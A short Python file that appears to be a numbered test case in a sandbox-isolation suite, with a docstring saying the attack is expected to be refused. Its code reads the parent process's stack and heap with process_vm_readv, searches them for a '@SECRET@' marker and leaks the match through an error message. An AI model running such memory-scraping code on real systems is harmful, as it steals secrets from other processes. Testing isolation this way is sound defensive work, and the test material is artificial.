"""Searches the memory of the process that started it with process_vm_readv.

number = 20
defence = "the call is refused; the worker cannot be read"
says = "refused"
outcome = {center = "failed"}

[control]
prize = "secret"
"""

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)


class _Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def _pieces():
    try:
        with open(f"/proc/{os.getppid()}/maps") as maps:
            return [line.split()[0] for line in maps if "[stack]" in line or "[heap]" in line]
    except OSError:
        return ["7ffffffde000-7ffffffff000"]


for _piece in _pieces():
    _start, _end = (int(word, 16) for word in _piece.split("-"))
    _buffer = ctypes.create_string_buffer(_end - _start)
    _ours = _Piece(ctypes.addressof(_buffer), _end - _start)
    _theirs = _Piece(_start, _end - _start)
    if _libc.process_vm_readv(os.getppid(), ctypes.byref(_ours), 1, ctypes.byref(_theirs), 1, 0) < 0:
        raise ValueError(f"refused: {os.strerror(ctypes.get_errno())}")
    _place = _buffer.raw.find(b"@SECRET@")
    if _place >= 0:
        raise ValueError(_buffer.raw[_place : _place + 60].decode("utf-8", "replace"))
